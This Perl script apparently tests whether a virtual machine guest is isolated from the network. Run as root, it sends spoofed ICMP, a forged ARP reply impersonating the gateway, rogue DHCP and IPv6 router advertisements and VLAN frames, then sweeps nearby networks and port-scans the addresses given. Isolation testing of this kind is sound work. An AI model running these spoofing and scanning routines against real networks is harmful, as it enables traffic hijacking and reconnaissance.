# SPDX-License-Identifier: Apache-2.0
#
# What a hostile guest sends: forged senders, services that are not its to give, and a scan of
# everything around it. Needs root and Perl's core only.
#
#   perl attack.pl ADDRESS...   scans these addresses and their networks of 256
#
# Prints one line for each TCP port that answered, and at the end how many were tried.
use strict;
use warnings;
use Socket;
use Fcntl qw(F_GETFL F_SETFL O_NONBLOCK);
use Errno qw(EINPROGRESS EWOULDBLOCK);

opendir(my $cards, '/sys/class/net') or die;
my ($card) = grep { !/^(\.|lo$)/ } sort readdir $cards;
open(my $file, '<', "/sys/class/net/$card/address") or die;
chomp(my $mac_text = <$file>);
open($file, '<', "/sys/class/net/$card/ifindex") or die;
chomp(my $index = <$file>);
my $mac    = pack 'H12', $mac_text =~ s/://gr;
my $forged = pack 'H12', '02aaaaaaaaaa';
my $all    = "\xff" x 6;
my ($own)  = `ip -4 -o address show dev $card` =~ /inet ([0-9.]+)/;
my $gateway = $own =~ s/[0-9]+$/1/r;

socket(my $raw, 17, SOCK_RAW, 0x0300) or die "raw socket: $!";

sub frame {
    my ($to, $from, $type, $payload) = @_;
    my $address = pack('S n i S C C a8', 17, $type, $index, 1, 0, 6, $to);
    my $frame = $to . $from . pack('n', $type) . $payload;
    $frame .= "\0" x (60 - length $frame) if length $frame < 60;
    send($raw, $frame, 0, $address) for 1 .. 3;
}

sub sum {
    my $sum = unpack('%32n*', $_[0] . (length($_[0]) % 2 ? "\0" : ''));
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub ipv4 {
    my ($from, $to, $protocol, $payload) = @_;
    my $header = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $payload, 1, 0, 64, $protocol, 0,
        inet_aton($from), inet_aton($to));
    substr($header, 10, 2) = pack 'n', sum($header);
    return $header . $payload;
}

sub udp {
    my ($from, $to, $payload) = @_;
    return pack('nnnn', $from, $to, 8 + length $payload, 0) . $payload;
}

sub echo {
    my $icmp = pack('CCnnn', 8, 0, 0, 1, 1) . 'attack';
    substr($icmp, 2, 2) = pack 'n', sum($icmp);
    return $icmp;
}

sub arp {
    my ($operation, $hardware, $sender, $target) = @_;
    return pack('nnCCn', 1, 0x0800, 6, 4, $operation)
        . $hardware . inet_aton($sender) . ("\0" x 6) . inet_aton($target);
}

# Forged senders.
frame($all, $forged, 0x0800, ipv4($own, $gateway, 1, echo()));
frame($all, $mac, 0x0800, ipv4('198.51.100.7', $gateway, 1, echo()));
frame($all, $mac, 0x0800, ipv4($gateway, '255.255.255.255', 1, echo()));
frame($all, $mac, 0x0806, arp(2, $mac, $gateway, $own));

# A DHCP server: an offer and an acknowledgement to everybody.
for my $kind (2, 5) {
    my $answer = pack('CCCCNnna4a4a4a4', 2, 1, 6, 0, 0x12345678, 0, 0x8000, inet_aton('0.0.0.0'),
        inet_aton('10.66.6.66'), inet_aton($own), inet_aton('0.0.0.0'))
        . pack('a16a64a128', $all, '', '')
        . pack('NCCCCCa4C', 0x63825363, 53, 1, $kind, 54, 4, inet_aton($own), 255);
    frame($all, $mac, 0x0800, ipv4($own, '255.255.255.255', 17, udp(67, 68, $answer)));
}

# A router: an advertisement of a prefix.
my $link_local = pack('H16', 'fe80000000000000') . (substr($mac, 0, 3) ^ "\x02\0\0") . "\xff\xfe"
    . substr($mac, 3);
my $advertisement = pack('CCnCCnNN', 134, 0, 0, 64, 0, 1800, 0, 0)
    . pack('CCCCNNNH32', 3, 4, 64, 0xc0, 86400, 14400, 0, '20010db8000000000000000000000000');
my $nodes = pack('H32', 'ff020000000000000000000000000001');
substr($advertisement, 2, 2) = pack 'n',
    sum($link_local . $nodes . pack('NN', length $advertisement, 58) . $advertisement);
frame(pack('H12', '333300000001'), $mac, 0x86dd,
    pack('NnCC', 0x60000000, length $advertisement, 58, 255) . $link_local . $nodes
        . $advertisement);

# Frames that never leave a link, and a VLAN.
frame(pack('H12', '0180c2000000'), $mac, 0x88cc, "\0" x 46);
frame($all, $mac, 0x8100, pack('nn', 5, 0x0800) . ipv4($own, $gateway, 1, echo()));

# The neighbours of every address, by ARP and by ping.
for my $target (@ARGV) {
    (my $network = $target) =~ s/[0-9]+$//;
    for my $host (1 .. 254) {
        my $address = "$network$host";
        frame($all, $mac, 0x0806, arp(1, $mac, $own, $address)) if $host % 8 == 1;
    }
}

# Their ports, by TCP, past the routing table through the card as well.
my ($tried, $open) = (0, 0);
for my $target (@ARGV) {
    for my $through_card (0, 1) {
        my %waiting;
        for my $port (22, 53, 80, 111, 443, 2049, 5432, 5900, 7443, 7777, 16509) {
            socket(my $tcp, AF_INET, SOCK_STREAM, 0) or die;
            setsockopt($tcp, SOL_SOCKET, 25, "$card\0") if $through_card;
            fcntl($tcp, F_SETFL, fcntl($tcp, F_GETFL, 0) | O_NONBLOCK);
            $tried++;
            my $connected = connect($tcp, sockaddr_in($port, inet_aton($target)));
            $waiting{$port} = $tcp if $connected || $! == EINPROGRESS || $! == EWOULDBLOCK;
        }
        select(undef, undef, undef, 3);
        for my $port (sort { $a <=> $b } keys %waiting) {
            if (getpeername($waiting{$port})) {
                print "open $target:$port\n";
                $open++;
            }
        }
    }
}
print "tried $tried open $open\n";
